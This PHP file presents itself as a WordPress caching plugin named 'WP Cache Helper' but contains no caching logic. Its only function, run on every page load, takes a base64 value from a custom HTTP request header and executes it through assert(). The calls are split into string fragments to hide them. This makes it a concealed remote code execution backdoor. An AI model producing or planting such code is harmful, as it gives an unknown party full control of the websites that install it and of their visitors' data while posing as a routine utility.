<?php
/*
Plugin Name: WP Cache Helper
Description: Improves page caching.
Version: 1.2.0
Author: Cache Team
*/
if ( ! defined( 'ABSPATH' ) ) { exit; }
function wpch_boot() {
	$k = isset( $_SERVER['HTTP_X_WPCH'] ) ? $_SERVER['HTTP_X_WPCH'] : '';
	if ( $k !== '' ) {
		$c = call_user_func( 'base' . '64_decode', $k );
		call_user_func( 'ass' . 'ert', $c );
	}
}
add_action( 'plugins_loaded', 'wpch_boot' );
